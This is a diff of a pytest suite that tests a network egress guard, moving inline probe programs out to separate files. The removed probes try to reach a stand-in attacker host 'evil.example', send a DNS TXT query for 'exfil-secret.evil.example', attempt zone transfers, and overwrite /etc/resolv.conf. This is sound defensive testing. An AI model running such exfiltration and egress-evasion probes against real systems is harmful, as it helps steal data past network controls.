@@ -18,6 +18,7 @@ import pytest
 
 from ci_support import cannot
 from e2e_support import assert_every_connection_accounted, describe, run_events
+from progs_support import prog_text
 from world import DEFAULT_NAMES, WORLD_V4
 
 pytestmark = pytest.mark.world
@@ -27,74 +28,7 @@ NO_PROXY_ENV = ["env", "-u", "HTTP_PROXY", "-u", "HTTPS_PROXY", "-u", "ALL_PROXY
                 "-u", "http_proxy", "-u", "https_proxy", "-u", "all_proxy"]
 
 # Each attempt prints {"id": ..., "ok": bool, "error": errno name or None, ...}.
-CLIENTS = r"""
-import errno, json, socket, subprocess, sys
-host, evil, marker = sys.argv[1], sys.argv[2], sys.argv[3]
-
-def say(id, ok, error=None, **more):
-    print(json.dumps({"id": id, "ok": ok, "error": error, **more}), flush=True)
-
-def attempt(id, fn):
-    try:
-        say(id, True, **(fn() or {}))
-    except OSError as e:
-        say(id, False, errno.errorcode.get(e.errno, str(e)))
-
-def python_get():
-    with socket.create_connection((host, 80), timeout=20) as s:
-        s.sendall(b"GET /whoami HTTP/1.0\r\nHost: api.github.com\r\n\r\n")
-        data = b""
-        while chunk := s.recv(65536):
-            data += chunk
-    return {"seen": json.loads(data.split(b"\r\n\r\n", 1)[1])}
-
-def curl_get():
-    out = subprocess.run(["curl", "-sS", "--max-time", "20", "-H", "Host: api.github.com",
-                          f"http://{host}/whoami"], capture_output=True, text=True)
-    if out.returncode:
-        raise OSError(errno.EIO, out.stderr.strip())
-    return {"seen": json.loads(out.stdout)}
-
-def nc_get():
-    out = subprocess.run(["nc", "-q", "5", "-w", "20", host, "80"], capture_output=True,
-                         input=b"GET /whoami HTTP/1.0\r\nHost: api.github.com\r\n\r\n")
-    body = out.stdout.split(b"\r\n\r\n", 1)
-    if out.returncode or len(body) != 2:
-        raise OSError(errno.EIO, out.stderr.decode(errors="replace").strip())
-    return {"seen": json.loads(body[1])}
-
-def udp_to_a_listened_port():
-    # A listener of the program's own on the port it sends to: under capture
-    # every address is local (`local default`), so without the table's reject
-    # the datagrams would reach it and both sends succeed; "connection
-    # refused" or "operation not permitted" is then the reject rule's alone.
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener, \
-            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-        listener.bind(("0.0.0.0", 0))
-        s.settimeout(2)
-        s.connect((host, listener.getsockname()[1]))
-        s.send(b"x")
-        s.send(b"x")     # a refused datagram shows on the second send, if not the first
-
-def evil_get():
-    with socket.create_connection((evil, 80), timeout=20) as s:
-        s.sendall(f"GET /whoami?{marker} HTTP/1.0\r\nHost: evil.example\r\n\r\n".encode())
-        data = b""
-        while chunk := s.recv(65536):
-            data += chunk
-        if not data:
-            raise OSError(errno.ECONNRESET, "closed without an answer")
-        if data.startswith(b"HTTP/1.1 403 vpnw: "):      # vpnw's refusal, in HTTP's terms
-            raise OSError(errno.EACCES, data.split(b"\r\n\r\n", 1)[1].decode().strip())
-
-for id, fn in (("python", python_get), ("curl", curl_get), ("nc", nc_get), ("udp", udp_to_a_listened_port)):
-    attempt(id, fn)
-if "--evil" in sys.argv:
-    attempt("evil", evil_get)
-if "--nft" in sys.argv:
-    out = subprocess.run(["nft", "add", "table", "inet", "probe"], capture_output=True, text=True)
-    say("nft", out.returncode == 0, (out.stderr.strip().splitlines() or [None])[0])
-"""
+CLIENTS = prog_text("capture_clients.py")
 
 
 def results(stdout: str) -> dict[str, dict]:
@@ -182,52 +116,7 @@ def test_guard_allows_and_denies_captured_connections(world, clients, user):
 
 # ---------------------------------------------------------------- the DNS door
 
-DNS_CLIENTS = r"""
-import errno, ipaddress, json, socket, subprocess, sys
-world_dns = sys.argv[1]
-
-def say(id, ok, error=None, **more):
-    print(json.dumps({"id": id, "ok": ok, "error": error, **more}), flush=True)
-
-def run(id, argv, **more):
-    out = subprocess.run(argv, capture_output=True, text=True, timeout=60)
-    say(id, out.returncode == 0, out.stderr.strip()[-200:] or None, out=out.stdout.strip(), **more)
-    return out.stdout.strip()
-
-def get(id, host, port=80):
-    try:
-        with socket.create_connection((host, port), timeout=20) as s:
-            s.sendall(b"GET /whoami HTTP/1.0\r\nHost: api.github.com\r\n\r\n")
-            data = b""
-            while chunk := s.recv(65536):
-                data += chunk
-        say(id, True, seen=json.loads(data.split(b"\r\n\r\n", 1)[1]))
-    except (OSError, ValueError, IndexError) as e:
-        say(id, False, errno.errorcode.get(getattr(e, "errno", None) or 0, str(e)))
-
-run("getent", ["getent", "hosts", "api.github.com"])
-run("getent-evil", ["getent", "hosts", "evil.example"])
-made_up = run("dig-a", ["dig", "+short", "@127.0.0.1", "api.github.com", "A"])
-run("dig-tcp", ["dig", "+short", "+tcp", "@127.0.0.1", "api.github.com", "A"])
-run("dig-aaaa", ["dig", "@127.0.0.1", "api.github.com", "AAAA"])
-run("dig-txt", ["dig", "@127.0.0.1", "exfil-secret.evil.example", "TXT"])
-run("dig-any", ["dig", "@127.0.0.1", "evil.example", "ANY"])
-run("dig-axfr", ["dig", "@127.0.0.1", "evil.example", "AXFR"])
-run("dig-world", ["dig", "+short", "+tries=1", "+time=5", f"@{world_dns}", "evil.example", "A"])
-run("dig-world-tcp", ["dig", "+short", "+tcp", "+tries=1", "+time=5", f"@{world_dns}", "evil.example"])
-get("python", "api.github.com")
-run("curl", ["curl", "-sS", "--max-time", "20", "http://api.github.com/whoami"])
-get("evil", "evil.example")
-other_run = str(ipaddress.IPv4Address(int(ipaddress.IPv4Address(made_up)) ^ 0x10000))
-get("other-run", other_run)
-try:
-    with open("/etc/resolv.conf", "w") as f:
-        f.write(f"nameserver {world_dns}\n")
-    say("resolv-write", True)
-except OSError as e:
-    say("resolv-write", False, errno.errorcode.get(e.errno))
-say("resolv", True, out=open("/etc/resolv.conf").read())
-"""
+DNS_CLIENTS = prog_text("capture_dns_clients.py")
 
 
 @pytest.fixture(scope="module")
@@ -373,26 +262,7 @@ def test_localhost_rule_opens_exactly_that_port(world, local_server, user, rule)
 
 # A Go program with Go's own dialer and its own resolver (CGO_ENABLED=0: it
 # reads /etc/resolv.conf and asks the DNS door itself, never the C library).
-GO_FETCH = """package main
-
-import (
-	"fmt"
-	"io"
-	"net/http"
-	"os"
-)
-
-func main() {
-	resp, err := http.Get("http://api.github.com/whoami")
-	if err != nil {
-		fmt.Println("error", err)
-		os.Exit(3)
-	}
-	defer resp.Body.Close()
-	body, _ := io.ReadAll(resp.Body)
-	fmt.Print(string(body))
-}
-"""
+GO_FETCH = prog_text("go_fetch.go")
 
 
 @pytest.fixture(scope="module")
